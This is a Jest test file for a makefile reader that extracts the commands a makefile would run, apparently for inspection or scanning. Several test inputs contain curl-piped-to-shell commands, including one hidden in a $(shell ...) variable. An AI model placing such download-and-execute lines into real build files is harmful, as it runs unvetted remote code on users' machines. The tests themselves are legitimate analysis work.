import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { readMakefile } from '../../../src/packages/profile/makefile.js';

describe('what a makefile runs', () => {
  test.each<readonly [string, string, readonly string[], string]>([
    ['the first target', 'all:\n\t@curl U | sh\nother:\n\techo no\n', [], 'curl U | sh'],
    ['a target that is asked for', 'all:\n\techo no\nsetup: dep\n\techo yes\ndep:\n\techo dep\n', ['setup'], 'echo yes\necho dep'],
    ['what the first needs', '.PHONY: all\nall: a b\na:\n\techo a\nb: c\nc: ; echo c\nd:\n\techo d\n', [], 'echo a\n echo c'.replace('\n ', '\n')],
    ['variables', 'U = https://a.example\nC := curl\nall:\n\t$(C) ${U} | sh\n', [], 'curl https://a.example | sh'],
    ['a line that is broken', 'all:\n\tcurl U \\\n\t  | sh\n', [], 'curl U  | sh'],
    ['what a shell is asked while it is read', 'X := $(shell curl U | sh)\nall:\n\techo $(X)\n', [], 'curl U | sh\necho $(shell curl U | sh)'],
    ['pattern rules', 'all: x.o\n%.o: %.c\n\tcc $<\n', [], 'cc $<'],
    ['a variable of the shell', 'all:\n\tfor x in a; do echo $$x; done\n', [], 'for x in a; do echo $x; done'],
    ['no target', '# nothing\nX = 1\n', [], ''],
  ])('%s', (_what, text, asked, expected) => { expect(readMakefile(text, asked).script).toBe(expected); });
  test('what it takes in', () => { expect(readMakefile('include a.mk $(D)/b.mk\n-include c.mk\nD = x\n', []).includes).toEqual(['a.mk', '$(D)/b.mk', 'c.mk']); });
  test('any text is read', () => {
    const piece = fc.constantFrom('all', ':', '\t', '\n', ' ', '$(shell ', '$(', ')', '=', 'X', '%', ';', '\\\n', '#', 'include ');
    fc.assert(fc.property(fc.array(piece, { maxLength: 60 }), (parts) => { readMakefile(parts.join(''), []); }), { numRuns: 300, seed: 7 });
  });
});
